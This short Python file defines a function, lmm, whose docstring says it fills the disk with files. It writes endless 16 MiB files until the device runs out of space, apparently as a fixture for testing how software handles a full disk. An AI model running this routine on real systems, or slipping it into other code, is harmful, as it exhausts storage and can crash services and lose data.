"""Fills the disk with files. -> [Errno 28] No space left on device"""

import itertools


def lmm(form, dat, ref=()):
    piece = bytes(2**24)
    for number in itertools.count():
        with open(f"{number}.bin", "wb") as file:
            file.write(piece)
        print(number + 1)
